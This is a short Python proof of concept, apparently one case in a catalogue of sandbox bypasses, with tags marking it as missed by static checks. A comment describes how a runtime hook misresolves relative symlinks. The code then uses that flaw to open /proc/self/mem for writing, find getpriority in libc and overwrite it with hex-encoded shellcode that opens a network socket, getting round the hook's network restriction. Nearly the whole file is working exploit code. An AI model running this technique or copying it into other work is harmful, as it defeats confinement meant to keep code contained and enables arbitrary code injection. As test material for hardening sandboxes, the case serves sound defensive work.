# family: procmem
# reaches: network
# layer: runtime
# static: missed
# The hook resolves a symbolic link's relative target against the working directory; the kernel
# resolves it against the link's directory. From /tmp/a/b the target ../proc/self/mem reads as
# /tmp/a/proc/self/mem, but /tmp/m -> ../proc/self/mem is /proc/self/mem. Code written there opens
# an AF_INET socket.
import os
import struct


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


os.makedirs("/tmp/a/b")
os.chdir("/tmp/a/b")
os.symlink("../proc/self/mem", "/tmp/m")
os.chdir("/tmp")
mem = os.open("/tmp/m", os.O_RDWR)
# socket(AF_INET, SOCK_DGRAM, 0); ret
code = bytes.fromhex("bf02000000be0200000031d2b8290000000f05c3")
os.pwrite(mem, code, libc_function(b"getpriority"))
print("socket fd", os.getpriority(0, 0))
